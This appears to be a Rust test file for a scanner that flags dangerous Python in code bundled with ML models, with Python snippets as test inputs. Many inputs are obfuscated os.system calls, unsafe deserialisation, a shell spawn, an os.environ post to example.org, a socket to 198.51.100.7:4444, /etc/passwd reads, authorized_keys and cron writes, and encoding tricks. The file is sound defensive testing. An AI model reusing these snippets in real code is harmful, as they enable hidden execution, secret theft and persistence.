//! What is found in code that comes with a model, and what is not.

use super::*;

fn worst(text: &str) -> Option<Does> {
    let effects = acts(text, Use { when: When::Deploy, script: false, builds: false }).unwrap();
    effects.into_iter().map(|effect| effect.does).max()
}

#[test]
fn what_takes_over_the_machine_is_found() {
    for text in [
        "import os\nos.system('id')",
        "from os import system as s\nclass H:\n    def initialize(self, c):\n        s('id')",
        "import subprocess as sp\ndef handle(data, context):\n    return sp.run(['echo', 'x'])",
        "__import__('os').popen('id')",
        "getattr(__import__('os'), 'sys' + 'tem')('id')",
        "import os\ngetattr(os, name)('id')",
        "import os\nf = getattr(os, bytes.fromhex('73797374656d').decode())\nf('id')",
        "import os\nvars(os)['system']('id')",
        "import builtins\nbuiltins.__dict__['ev' + 'al']('x')",
        "exec(\"import os; os.system('id')\")",
        "import base64\nexec(base64.b64decode('aW1wb3J0IG9z'))",
        "import base64, zlib\nc = zlib.decompress(base64.b64decode(X))\neval(compile(c, 'x', 'exec'))",
        "import requests\nexec(requests.get('https://example.org/x').text)",
        "import marshal, types\ntypes.FunctionType(marshal.loads(b'\\x63'), {})()",
        "import pickle, base64\npickle.loads(base64.b64decode('gASV'))",
        "def handle(data, context):\n    return eval(data[0].get('body'))",
        "import ctypes\nctypes.CDLL(None).system(b'id')",
        "import pty\npty.spawn('/bin/sh')",
        "().__class__.__base__.__subclasses__()[84]()",
        "import pip\npip.main(['install', 'x'])",
    ] {
        assert_eq!(worst(text), Some(Does::Executes), "{text}");
    }
}

#[test]
fn functions_are_found_by_whatever_way() {
    for text in [
        "from torch.hub import os\nos.system('id')",
        "import torch\ntorch.os.system('id')",
        "import numpy.f2py\nnumpy.f2py.os.system('id')",
        "import numpy as np\nnp.f2py.os.popen('id')",
        "import sys\nsys.modules['os'].system('id')",
        "import sys\nsys.modules.get('o' + 's').system('id')",
        "import sys\nm = sys.modules\nm['os'].system('id')",
        "import importlib\nimportlib.import_module('o' + 's').system('id')",
        "from importlib import import_module as i\ni(chr(111) + chr(115)).system('id')",
        "m = __import__(''.join(['o', 's']))\nm.system('id')",
        "m = __import__('so'[::-1])\nm.system('id')",
        "m = __import__('\\x6fs')\nm.system('id')",
        "m = __import__(''.join(map(chr, [111, 115])))\nm.system('id')",
        "m = __import__(bytes([111, 115]).decode())\nm.system('id')",
        "m = __import__(name)\nm.system('id')",
        "import os\ngetattr(os, 'sys' + 'tem')('id')",
        "import os\nf = getattr(os, f\"{'sys'}tem\")\nf('id')",
        "import os\ngetattr(os, '%s%s' % ('sys', 'tem'))('id')",
        "a = 'sys'\na += 'tem'\nimport os\ngetattr(os, a)('id')",
        "globals()['__builtins__'].exec('import os; os.system(1)')",
        "globals()['__builtins__']['eval']('__import__(\"os\").system(1)')",
        "__builtins__.__dict__['exec']('import os; os.system(1)')",
        "print.__self__.exec('import os; os.system(1)')",
        "import os\nvars(os)['sys' + 'tem']('id')",
        "import os\nos.__dict__['system']('id')",
        "import os\nos.__dict__.get('system')('id')",
        "import os\nd = dict(vars(os))\nd['system']('id')",
        "import os\nfor k, v in vars(os).items():\n    if k.startswith('sys'):\n        v('id')",
        "import os\n[v for v in os.__dict__.values()][40]('id')",
        "import os, inspect\nfor n, f in inspect.getmembers(os):\n    f('id')",
        "import os, operator\noperator.attrgetter('system')(os)('id')",
        "import os, operator\noperator.methodcaller('system', 'id')(os)",
        "from operator import methodcaller as m\nf = m('system', 'id')\nimport os\nf(os)",
        "import os, functools\nf = functools.partial(os.system, 'id')\nf()",
        "import os\nfrom functools import reduce\nreduce(os.system, ['id'])",
        "import os\nlist(map(os.system, ['id']))",
        "import os\nsorted(['id'], key=os.system)",
        "import os\nlist(filter(os.system, ['id']))",
        "import os, atexit\natexit.register(os.system, 'id')",
        "import os, threading\nthreading.Thread(target=os.system, args=('id',)).start()",
        "import os, weakref\nclass A: pass\nweakref.finalize(A(), os.system, 'id')",
        "import signal, os\nsignal.signal(signal.SIGTERM, os.system)",
        "from concurrent.futures import ThreadPoolExecutor\nimport os\nThreadPoolExecutor().submit(os.system, 'id')",
        "import os\nd = {'a': os.system}\nd['a']('id')",
        "import os\nd = {'a': os.system}\nd.get('a')('id')",
        "import os\nl = []\nl.append(os.system)\nl[0]('id')",
        "import os\nfor f in (os.system,):\n    f('id')",
        "import os\ndef run(f, x):\n    return f(x)\nrun(os.system, 'id')",
        "import os\ndef get():\n    return os.system\nget()('id')",
        "import os\n(lambda f: f('id'))(os.system)",
        "import os\ndef f(run=os.system):\n    run('id')",
        "import os\nclass A:\n    run = os.system\nA.run('id')",
        "import os\nclass A:\n    run = staticmethod(os.system)\nA().run('id')",
        "import os\nclass A:\n    def __init__(self, f):\n        self.f = f\n    def go(self):\n        self.f('id')\nA(os.system)",
        "import os\nclass A:\n    __class_getitem__ = os.system\nA['id']",
        "import os\nclass M(type):\n    def __init_subclass__(cls):\n        os.system('id')",
        "import os\nclass A:\n    def __reduce__(self):\n        return os.system, ('id',)",
        "@exec\n@input\nclass A: pass",
        "import os\n@os.system\ndef f(): pass",
        "import torch\ntorch.load = exec",
        "import os, builtins\nbuiltins.print = os.system",
        "import os, json\nsetattr(json, 'loads', os.system)",
        "import logging.config\nlogging.config.dictConfig({'handlers': {'h': {'()': 'os.system', 'command': 'id'}}})",
        "import pkgutil\npkgutil.resolve_name('os:system')('id')",
        "from os import *\nsystem('id')",
        "import ctypes\nctypes.CDLL(None)['system'](b'id')",
        "import yaml\nyaml.load('!!python/object/apply:os.system [id]', Loader=yaml.Loader)",
        "import \u{ff4f}\u{ff53}\n\u{ff4f}\u{ff53}.system('id')",
        "import os\nos.\u{1d4c8}ystem('id')",
        "\u{1d41e}\u{1d431}\u{1d41e}\u{1d41c}('import os; os.system(1)')",
        "'''import os; os.system(1)'''\nexec(__doc__)",
        "import os\nif __name__ != '__main__':\n    os.system('id')",
        "import os\nif __name__ == '__main__':\n    pass\nelse:\n    os.system('id')",
    ] {
        assert_eq!(worst(text), Some(Does::Executes), "{text}");
    }
}

#[test]
fn references_that_go_nowhere_are_nothing() {
    for text in [
        "import os, subprocess\ndef f(p: subprocess.Popen) -> int:\n    return isinstance(p, subprocess.Popen)",
        "import os\nname = getattr(os, 'sched_getaffinity', None)\nn = len(os.sched_getaffinity(0))",
        "import os\nn = getattr(os, 'getpid')()",
        "import os\nhas = hasattr(os, 'system') and callable(os.system)",
        "import torch.utils.checkpoint\ndef forward(self, x):\n    return torch.utils.checkpoint.checkpoint(self.layer, x)",
        "import importlib.util\nhas = importlib.util.find_spec('flash_attn') is not None",
        "import importlib\nm = importlib.import_module('.configuration_x', __package__)\nm.Config()",
        "import sys\nsys.modules[__name__] = Lazy(__name__, globals()['__file__'], structure)",
        "import os\nW = os.environ.get('WORLD_SIZE', 1)\np = os.path.join(os.path.dirname(__file__), 'x.txt')\nopen(p).read()",
        "from functools import partial\nimport torch.nn as nn\nnorm = partial(nn.LayerNorm, eps=1e-6)\nblock = nn.ModuleList([norm(8) for _ in range(4)])",
        "ACT = {'gelu': F.gelu, 'relu': F.relu}\ndef act(name):\n    return ACT[name](x)",
        "import functools\nclass A:\n    @functools.lru_cache()\n    def f(self): return map(str, self.x)",
        "import logging\nlogger = logging.getLogger(__name__)\nlogger.warning_once('eval exec os.system')",
        "def f(model):\n    model.eval()\n    model.system('x')\n    return getattr(model, name)(1)",
        "import torch\nfor name, fn in vars(torch).items():\n    fn(1)",
        "import sys\nfor name, m in sys.modules.items():\n    m.reload(1)",
        "from .system import run, popen\nrun('x')\npopen('x')",
        "from . import os_utils\nos_utils.system('x')",
        "import numpy as np\nx = np.array(list(map(int, '1 2'.split())))\nx.sort(key=len)",
        "import pickle, io\nclass U(pickle.Unpickler):\n    def find_class(self, m, n):\n        return getattr(importlib.import_module(m), n)",
        "import argparse\np = argparse.ArgumentParser()\np.add_argument('--s', type=eval)",
        "config = {'_target_': 'torch.optim.AdamW', '()': 'my.Formatter'}",
        "exec('x = 1')",
        "gr\u{f6}\u{df}e = 1\n\u{3b1} = 0.5\n\u{3b1}(1)",
    ] {
        assert!(worst(text) <= Some(Does::Known), "{text}: {:?}", worst(text));
    }
}

#[test]
fn source_that_its_bytes_do_not_show_is_found() {
    let found = |text: &str| crate::testing::findings("embedded-code", "modeling_x.py", text).len();
    assert_eq!(found("# coding: utf-7\nx = 1 # +AAo-import os\n"), 1);
    assert_eq!(found("# -*- coding: unicode_escape -*-\n# \\u000aimport os\n"), 1);
    assert_eq!(found("# -*- coding: latin-1 -*-\nx = 1\n"), 0);
    let strange = crate::testing::observe("modeling_x.py", b"# coding: of_mine\nx = 1\n", None);
    assert_eq!(strange.unscanned.len(), 1);
}

#[test]
fn what_reaches_files_and_machines_is_found() {
    for text in [
        "import socket\ns = socket.socket()\ns.connect(('198.51.100.7', 4444))",
        "import urllib.request\nurllib.request.urlopen('https://example.org/beacon')",
        "import requests, os\ndef handle(data, c):\n    requests.post('https://example.org', json=dict(os.environ))",
        "import requests\ndef handle(data, c):\n    requests.get('http://198.51.100.7/x')",
        "open('/etc/passwd').read()",
        "import os\nopen(os.path.expanduser('~/.ssh/authorized_keys'), 'a').write(K)",
        "from pathlib import Path\n(Path.home() / 'x')\nPath('/etc/cron.d/x').write_text('x')",
        "import shutil\nshutil.rmtree('/home')",
    ] {
        assert_eq!(worst(text), Some(Does::Reaches), "{text}");
    }
}

#[test]
fn ordinary_handlers_are_quiet() {
    for text in [
        "# os.system('id')\nMARK = \"subprocess.Popen('x')\"\n\"\"\"eval('x')\"\"\"\ndef handle(data, context):\n    return MARK\n",
        "import io, json, base64, logging, os, torch\nfrom PIL import Image\nfrom ts.torch_handler.base_handler import BaseHandler\n             class H(BaseHandler):\n    def initialize(self, context):\n        d = context.system_properties.get('model_dir')\n             \x20       self.model = torch.load(os.path.join(d, 'model.pt'), map_location='cpu')\n        self.model.eval()\n             \x20       with open(os.path.join(d, 'index.json')) as f:\n            self.map = json.load(f)\n             \x20   def preprocess(self, data):\n        row = data[0].get('data') or data[0].get('body')\n             \x20       return Image.open(io.BytesIO(base64.b64decode(row)))\n",
        "import subprocess\ndef gpus():\n    return subprocess.check_output(['nvidia-smi', '-L'])\n",
        "import pickle, os\ndef model_fn(d):\n    with open(os.path.join(d, 'm.pkl'), 'rb') as f:\n        return pickle.load(f)\n",
        "import requests\nfrom PIL import Image\ndef load(url):\n    return Image.open(requests.get(url, stream=True).raw)\n",
        "import re\npattern = re.compile('x')\nmodel.eval()\nexecute = pattern.match('exec')\n",
        "import importlib\ndef make(c):\n    return getattr(importlib.import_module(c['module']), c['class'])(**c['params'])\n",
        "import subprocess\nif __name__ == '__main__':\n    subprocess.run(['python', 'train.py'])\n",
        "open('/tmp/cache.bin', 'wb').write(b'')\n",
    ] {
        assert!(worst(text) <= Some(Does::Known), "{text}: {:?}", worst(text));
    }
}

#[test]
fn what_is_only_poor_style_is_milder() {
    for text in [
        "def f(source='x = 1'):\n    exec(source)\n",
        "import torch.nn as nn\ndef act(config):\n    return eval('nn.' + config.act)\n",
        "import subprocess, sys\nsubprocess.check_call([sys.executable, '-m', 'pip', 'install', 'sentencepiece'])\n",
        "import ctypes\nlib = ctypes.CDLL('libcudart.so')\n",
    ] {
        assert_eq!(worst(text), Some(Does::Custom), "{text}");
    }
}
